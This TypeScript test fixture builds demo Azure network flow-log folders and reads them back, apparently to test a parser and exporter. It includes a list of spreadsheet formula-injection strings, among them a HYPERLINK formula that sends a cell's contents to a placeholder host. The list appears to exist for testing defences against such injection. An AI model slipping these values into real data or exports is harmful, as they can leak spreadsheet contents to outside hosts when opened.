import { copyFileSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { HOUR } from '@/lib/flow/time/bucket'
import { type NaiveRow, readNaively } from '@/lib/parse/test/naive-reader'
import { FolderSource } from '@/lib/source/folder/folder'
import { parsePath } from '@/lib/source/model/path'
import { writeFolder } from '@/scripts/demo/write-folder'

export const NOW = Date.UTC(2026, 7, 12, 16, 30)
/** A range that covers the whole folder. */
export const ALWAYS = { from: '2015-01-01T00:00:00Z', to: '2035-01-01T00:00:00Z' }

const corpus = resolve(import.meta.dirname, '../../parse/corpus')

export const FORMULAS = ['=HYPERLINK("https://x/?"&A1,"y")', '+1', '-1', '@SUM(A1)', '＝1', '\t=1']

function formulas(): string {
  const groups = FORMULAS.map((rule, i) => ({
    rule,
    flowTuples: [`178652880000${i},10.0.0.1,10.0.0.2,1,2,${[1, 58, 47][i % 3]},I,D,NX,0,0,0,0`],
  }))
  return JSON.stringify({
    records: [
      {
        time: '2026-08-12T10:01:02.0000000Z',
        macAddress: '000D3A000001',
        category: 'FlowLogFlowEvent',
        flowLogResourceID: '/SUBSCRIPTIONS/S/RESOURCEGROUPS/G/PROVIDERS/MICROSOFT.NETWORK/NETWORKWATCHERS/W/FLOWLOGS/ODD',
        flowLogVersion: 4,
        flowRecords: { flows: [{ aclID: '-unspecified', flowGroups: groups }] },
      },
    ],
  })
}

/** Writes a few hours of the demo, the parser's corpus and rules that a spreadsheet would run. Returns every row as a naive reading gives it. */
export async function writeEvidence(folder: string): Promise<{ source: FolderSource; rows: (NaiveRow & { path: string })[] }> {
  await writeFolder(folder, { seed: 11, tuples: 20_000, now: NOW })
  for (const name of readdirSync(folder, { recursive: true, encoding: 'utf8' })) {
    const path = parsePath(name)
    if (path && path.hour < NOW - 2 * HOUR) rmSync(join(folder, name))
  }
  mkdirSync(join(folder, 'odd'))
  writeFileSync(join(folder, 'odd', 'formulas.json'), formulas())
  for (const name of readdirSync(corpus))
    if (name.endsWith('.json') && !name.endsWith('.rows.json')) copyFileSync(join(corpus, name), join(folder, 'odd', name))
  const source = new FolderSource(folder)
  const names = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.json'))
  const rows = names.flatMap((name) => {
    const path = parsePath(name)
    const scope = path?.scope.replace(/^.*?((?:flowLog)?resourceId=)/i, '$1') ?? null
    const origin = { blob: 0, source: source.id, scope, hour: path?.hour ?? null, mac: path?.mac ?? null, offset: 0 }
    return readNaively(readFileSync(join(folder, name)), origin).rows.map((row) => ({ ...row, path: name }))
  })
  return { source, rows }
}
